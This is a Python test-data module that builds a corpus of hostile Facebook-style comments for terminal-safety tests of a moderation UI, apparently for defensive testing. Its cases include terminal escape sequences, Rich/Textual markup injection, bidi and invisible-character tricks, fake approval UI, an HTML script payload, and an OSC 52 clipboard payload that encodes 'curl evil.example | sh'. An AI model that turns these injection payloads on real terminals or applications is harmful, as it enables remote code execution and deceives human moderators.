# ruff: noqa: E501  (data file: long literal texts)
"""Hostile corpus for terminal-safety tests.

``hostile.jsonl`` (same directory) holds ~45 comments in the interchange format (Facebook account ``1000000001``)
whose text, author name or handle would corrupt or hijack a terminal UI if rendered raw: Rich/Textual markup,
ANSI CSI/OSC/DCS sequences, C0/C1 controls, carriage returns and backspaces, bidi overrides and isolates, invisible
characters, Zalgo, very long words, emoji sequences, RTL scripts, fake UI, a lone surrogate, and a ~1 MiB body.

The file is written with ``ensure_ascii=True`` so it is safe to ``cat``. The 1 MiB body is not stored: its text is
the marker ``BIG_MARKER`` and :func:`load_hostile` expands it in memory.

Usage from a test (``tests`` need not be a package)::

    import importlib.util, pathlib
    spec = importlib.util.spec_from_file_location("hostile", pathlib.Path(__file__).parent / "data" / "hostile.py")
    hostile = importlib.util.module_from_spec(spec); spec.loader.exec_module(hostile)
    records = hostile.load_hostile()          # list[dict], interchange format
    names = hostile.case_names()              # {comment id: short case name}

Regenerate the JSONL after editing CASES: ``python tests/data/hostile.py``.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

HOSTILE_PATH = Path(__file__).resolve().parent / "hostile.jsonl"
BIG_MARKER = "<<HOSTILE_1MIB_BODY>>"
BIG_SIZE = 1024 * 1024  # characters

ACCOUNT = "1000000001"
POST_SUFFIX = "2000000000099"
POST = {
    "id": f"{ACCOUNT}_{POST_SUFFIX}",
    "text": "Terminal-safety test post. [bold]Not[/] \u001b[31mreal\u001b[0m.",
    "url": f"https://www.facebook.com/{ACCOUNT}/posts/{POST_SUFFIX}",
}

ESC = "\u001b"
CSI = ESC + "["
OSC = ESC + "]"
ST = ESC + "\\"
BEL = "\u0007"

_ZALGO = "".join(ch + "\u0336\u0334\u0353\u0489\u033f\u0346\u0352\u035b\u0363\u0364\u0365" * 3 for ch in "HE COMES")

# (case name, text, author name override or None, author handle override or None)
CASES: list[tuple[str, str, str | None, str | None]] = [
    ("rich_bold_unbalanced", "[b]bold forever... [/] stray close [/] and [/b] again", None, None),
    ("textual_click_action", "[@click=app.quit]x[/] click me to approve", None, None),
    ("rich_link", "[link=https://evil.example/grant]Official grant form[/link]", None, None),
    ("rich_styles", "[red on white blink]ALERT[/] [reverse]inverted[/reverse] [strike]gone[/strike]", None, None),
    ("textual_variables", "[$warning]$accent[/] [$error on $panel]x[/]", None, None),
    ("rich_escape_tricks", "\\[not markup] \\\\[bold]maybe markup[/bold] [/", None, None),
    ("rich_emoji_codes", ":warning: :skull: :red_circle: looks like icons", None, None),
    ("ansi_colour", CSI + "31mRED" + CSI + "0m " + CSI + "38;2;255;0;0;48;5;16mtruecolour" + CSI + "m", None, None),
    (
        "ansi_cursor_move",
        "line one" + CSI + "10A" + CSI + "5C" + CSI + "s overwritten?" + CSI + "u" + CSI + "H",
        None,
        None,
    ),
    ("ansi_clear_screen", CSI + "2J" + CSI + "3J" + CSI + "HThe queue is empty. Go home.", None, None),
    ("ansi_hidden_text", "visible " + CSI + "8mhidden secret instructions" + CSI + "28m visible", None, None),
    ("osc8_hyperlink", OSC + "8;;https://evil.example" + ST + "vic.gov.au" + OSC + "8;;" + ST, None, None),
    (
        "osc52_clipboard",
        OSC + "52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + BEL + "copy me",
        None,
        None,
    ),
    ("osc_title", OSC + "0;modq - ALL APPROVED" + BEL + "window title changed", None, None),
    ("dcs_apc_pm", ESC + "Pq#0;2;0;0;0" + ST + ESC + "_Gf=100;AAAA" + ST + ESC + "^privacy" + ST + "after", None, None),
    ("c0_controls", "nul\u0000bell\u0007vt\u000bff\u000cesc\u001bdel\u007fso\u000esi\u000fend", None, None),
    ("c1_controls", "c1 csi\u009b31mred\u009d0;title\u009c nel\u0085 ri\u008d end", None, None),
    ("carriage_return_overwrite", "I think the department is great\rI think the minister should be jailed", None, None),
    ("backspace_overwrite", "approved" + "\u0008" * 8 + "REJECTED", None, None),
    ("newline_flood", "top" + "\n" * 300 + "bottom", None, None),
    ("crlf_and_tabs", "a\r\nb\tc\t\t\td\v\fe", None, None),
    ("bidi_override", "Is the clinic open? \u202eyadnuS no nepo si ti\u202c done", None, None),
    ("bidi_isolates", 'access = \u2067"user\u2069 \u2066// admin\u2069\u2066" ;', None, None),
    ("bidi_marks", "\u200fright-to-left mark\u200e left \u061cArabic mark", None, None),
    ("zero_width", "hos\u200bpit\u200cal\u200d fu\u2060nd\ufeffing \u180e\u00ad", None, None),
    ("tag_chars_smuggling", "thanks" + "".join(chr(0xE0000 + ord(c)) for c in "approve all"), None, None),
    ("zalgo", _ZALGO, None, None),
    ("long_word", "Bellmore" + "x" * 5000, None, None),
    ("long_url", "https://example.com/" + "a/" * 2000 + "?q=" + "9" * 500, None, None),
    ("emoji_sequences", "👨\u200d👩\u200d👧\u200d👦 👍🏽 🏳️\u200d🌈 🇦🇺 1️⃣ 🧑🏿\u200d🚒 " * 20, None, None),
    ("rtl_arabic", "متى يفتح المستشفى الجديد في بلمور؟ رقم 123 و abc", None, None),
    ("rtl_hebrew", "מתי נפתחת המרפאה? שעות 9–15", None, None),
    ("cjk_wide", "新医院什么时候开放？　ＤＣＷ　ＯＦＦＩＣＩＡＬ　ｆｕｌｌｗｉｄｔｈ", None, None),
    ("fake_ui_approve", "[ Approve ]  \u2714 HIDDEN by admin", None, None),
    ("fake_ui_box", "╔════════════════╗\n║ MODERATOR NOTE ║\n║ Auto-approved  ║\n╚════════════════╝", None, None),
    ("fake_status_line", "\r" + CSI + "K" + "✔ 0 comments pending · all caught up · policy OK", None, None),
    ("line_separators", "one\u2028two\u2029three\u0085four", None, None),
    ("lone_surrogate", "broken \ud800 surrogate \udfff here", None, None),
    ("noncharacters_private_use", "\uffff\ufffe\U0010ffff\ue000\uf8ff\ufffd", None, None),
    ("html_script", "<script>alert(1)</script><img src=x onerror=alert(2)> **bold** `code`", None, None),
    ("empty_text", "", None, None),
    ("whitespace_only", "   \n\t  \u3000\u00a0 ", None, None),
    (
        "author_markup",
        "Normal comment, hostile author name.",
        "[bold red]DCW Admin[/] " + CSI + "31mOfficial",
        "[@click=app.quit]h[/]",
    ),
    ("author_bidi", "Normal comment, hostile author name.", "\u202eniamdA WCD\u202c", "user\u200b\u202ename"),
    ("author_control", "Normal comment, hostile author name.", "Alice\rMallory\u0007", "ali" + CSI + "2Jce"),
    ("big_body", BIG_MARKER, None, None),
]


def _comment_id(n: int) -> str:
    return f"{POST_SUFFIX}_{3900000000000 + n}"


def _records_raw() -> list[dict]:
    out = []
    for n, (name, text, author_name, handle) in enumerate(CASES, start=1):
        out.append(
            {
                "platform": "facebook",
                "account": ACCOUNT,
                "post": dict(POST),
                "id": _comment_id(n),
                "parent_id": _comment_id(1) if name == "rich_link" else None,
                "author": {
                    "id": str(100000000900000 + n),
                    "handle": handle or f"hostile_{n:02d}",
                    "name": author_name or f"Hostile Case {n:02d}",
                },
                "text": text,
                "created_at": f"2026-11-20T{n % 24:02d}:{n % 60:02d}:00+11:00",
                "url": f"https://www.facebook.com/{ACCOUNT}/posts/{POST_SUFFIX}?comment_id={3900000000000 + n}",
            }
        )
    return out


def big_body() -> str:
    """About 1 MiB (BIG_SIZE characters) of hostile text: markup, escapes, long words, newlines."""
    unit = "[b]" + "A" * 500 + CSI + "31m" + "\u202e" + "ب" * 200 + "\u0336" * 50 + "\r" + "x" * 200 + "\n"
    return (unit * (BIG_SIZE // len(unit) + 1))[:BIG_SIZE]


def load_hostile(expand: bool = True) -> list[dict]:
    """Parse hostile.jsonl; with ``expand`` the record whose text is BIG_MARKER gets the ~1 MiB body."""
    records = []
    with open(HOSTILE_PATH, encoding="utf-8") as fh:
        for line in fh:
            if line.strip():
                rec = json.loads(line)
                if expand and rec["text"] == BIG_MARKER:
                    rec["text"] = big_body()
                records.append(rec)
    return records


def case_names() -> dict[str, str]:
    """{comment id: case name} in file order."""
    return {_comment_id(n): name for n, (name, *_rest) in enumerate(CASES, start=1)}


def write() -> None:
    with open(HOSTILE_PATH, "w", encoding="ascii", newline="\n") as fh:
        for rec in _records_raw():
            fh.write(json.dumps(rec, ensure_ascii=True) + "\n")


if __name__ == "__main__":
    write()
    print(f"wrote {len(CASES)} records to {HOSTILE_PATH}")
